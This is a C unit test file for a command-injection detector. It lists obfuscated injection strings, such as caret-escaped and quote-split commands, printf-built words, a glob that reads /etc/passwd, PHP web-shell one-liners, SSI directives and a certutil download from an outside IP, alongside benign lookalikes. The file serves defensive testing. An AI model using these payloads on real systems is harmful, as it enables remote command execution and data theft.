/* test_payload_rtc3.c - issue 20, helper c (session 15): command
 * injection rows of the review's open findings (rev3 E2, E3) and of a
 * fresh red-team table, one test per construct. Every value is judged as
 * a query parameter value (payload_scan) and as a form body
 * "a=1&q=<percent-encoded value>" (payload_scan_query): an attack must
 * draw its own kind in both, a benign value nothing in either. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define C PAYLOAD_CMDI
#define N PAYLOAD_NONE

/* cmd opens a command after a block's '(' and echo-off's '@' too: a
 * caret-escaped word there is the command (rev3 E2) */
static void test_cmdi_caret_block(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"x |(^w^h^o^a^m^i)", C},
		{"x |@^w^h^o^a^m^i", C},
		{"x &(^i^p^c^o^n^f^i^g)", C},
		{"x |@whoami", C},
		{"x |,^w^h^o^a^m^i", C},
		{"x &=whoami", C},
		{"Name|,ID|,Email", N},
		{"a=1&=b", N},
		{"see (^1) and (^2) below", N},
		{"mail me |@home", N},
	};
	rt_run("cmdi-caret-block", t, sizeof(t) / sizeof(t[0]));
}

/* a word spelt in quoted pieces of both kinds, or led by an empty pair,
 * is one word to the shell (rev3 E3) */
static void test_cmdi_quote_pieces(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"x; \"w\"'h'oami", C},
		{"x; \"\"whoami", C},
		{"x; ''id", C},
		{"x; \"i\"'d'", C},
		{"x && 'w'\"h\"oami", C},
		{"8.8.8.8;;\"\"uname -a;;", C},
		{"He said \"\"hello\"\" twice; then left", N},
		{"name: \"a\"'b' ; type: 'c'", N},
	};
	rt_run("cmdi-quote-pieces", t, sizeof(t) / sizeof(t[0]));
}

/* words the shell builds before running them: an unset variable's
 * default, echo's or printf's output in a substitution */
static void test_cmdi_built_words(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{";${x:-cat} /etc/hosts", C},
		{"&${x:-ping} -c 10 127.0.0.1", C},
		{"127.0.0.1||${u:=id}", C},
		{"|`echo id`", C},
		{";`echo uname` -a", C},
		{"a$(echo whoami)", C},
		{";$(printf '\\151\\144')", C},
		{"x\" | $(printf \"\\164\\141\\151\\154\") /etc/hosts \"", C},
		{"abc; $(printf \"\\x6c\\x73\") -al", C},
		{"Use `echo hello` to print a greeting", N},
		{"default is ${PORT:-8080}; see docs", N},
		{"price: ${amount:-0} USD", N},
	};
	rt_run("cmdi-built-words", t, sizeof(t) / sizeof(t[0]));
}

/* a separator and the call the value closed before the command, reopened
 * after it, or the code's line comment: the '); x; (' mirrors */
static void test_cmdi_call_mirror(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"');id;('", C},
		{"\");id;(\"", C},
		{"x');whoami;('", C},
		{"');whoami;//", C},
		{"\");uname -a;//", C},
		{"f('a');g('b');('c')", N},
		{"see (a); id; (b)", N},
	};
	rt_run("cmdi-call-mirror", t, sizeof(t) / sizeof(t[0]));
}

/* code execution beside shell lines: Ruby's and Perl's command literals,
 * PHP code running a command, SSI directives, argv lists, %COMSPEC%,
 * a Windows binary named with .exe */
static void test_cmdi_code_forms(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"%x(id)", C},
		{"%x{whoami}", C},
		{"qx(uname -a)", C},
		{"x=qx{id}", C},
		{"<?=`$_GET[0]`?>", C},
		{"<?php echo shell_exec($_GET['e']); ?>", C},
		{"<?php phpinfo(); ?>", C},
		{"phpinfo()", C},
		{"';phpinfo();//", C},
		{"<!--#printenv -->", C},
		{"<!--#echo var=\"DOCUMENT_ROOT\"-->", C},
		/* subprocess.check_output(['id']) and ProcessBuilder("id")
		 * are left to the reader: the merge's review found the same
		 * calls in every Python and Java code post
		 * (subprocess.run(["ls", "-l"]) is Python's own example) */
		{"subprocess.run([\"ls\", \"-l\"], check=True)", N},
		{"new ProcessBuilder(\"git\", \"status\").start()", N},
		{"%COMSPEC% /c dir", C},
		{"certutil.exe -urlcache -f http://10.9.8.7/a a.exe", C},
		{"printf(\"%x(%d)\\n\", a, b);", N},
		{"The qx(1) model is out of stock", N},
		{"<?php echo htmlspecialchars($title); ?>", N},
		{"Use <?php phpinfo(); ?> only on a dev box, never in production", N},
		{"Call phpinfo() to see the PHP config", N},
		{"<!--#region Header -->", N},
		{"x = subprocess.check_output(cmd)", N},
		{"new ProcessBuilder(args).start()", N},
		{"%USERPROFILE%\\Documents\\report.docx", N},
	};
	rt_run("cmdi-code-forms", t, sizeof(t) / sizeof(t[0]));
}

/* a binary's name found by a '?' pattern in a system directory, or under
 * directories spelt by patterns themselves */
static void test_cmdi_glob_binary(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"/b?\?/c?t /e?c/pa?\?wd", C},
		{"/usr/bin/wh?ami", C},
		{"/bin/?s -al", C},
		{"/api/v?/items", N},
		{"/search?q=id", N},
		{"/bin/?", N},
		{"/docs/i?", N},
	};
	rt_run("cmdi-glob-binary", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cmdi_caret_block),
		cmocka_unit_test(test_cmdi_quote_pieces),
		cmocka_unit_test(test_cmdi_built_words),
		cmocka_unit_test(test_cmdi_call_mirror),
		cmocka_unit_test(test_cmdi_code_forms),
		cmocka_unit_test(test_cmdi_glob_binary),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
